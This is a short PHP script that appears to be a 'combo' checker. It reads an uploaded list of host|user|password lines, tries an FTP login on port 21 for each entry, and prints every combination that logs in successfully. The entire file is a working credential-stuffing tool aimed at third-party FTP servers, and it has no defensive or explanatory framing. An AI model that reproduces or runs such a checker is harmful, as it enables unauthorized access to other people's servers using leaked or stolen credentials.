<?php
$lines = preg_split('/\r?\n/', file_get_contents($_FILES['combo']['tmp_name']));
foreach ($lines as $line) {
    list($host, $user, $pw) = explode('|', $line);
    $c = @ftp_connect($host, 21, 5);
    if ($c && @ftp_login($c, $user, $pw)) { echo "GOOD $host|$user|$pw\n"; }
}
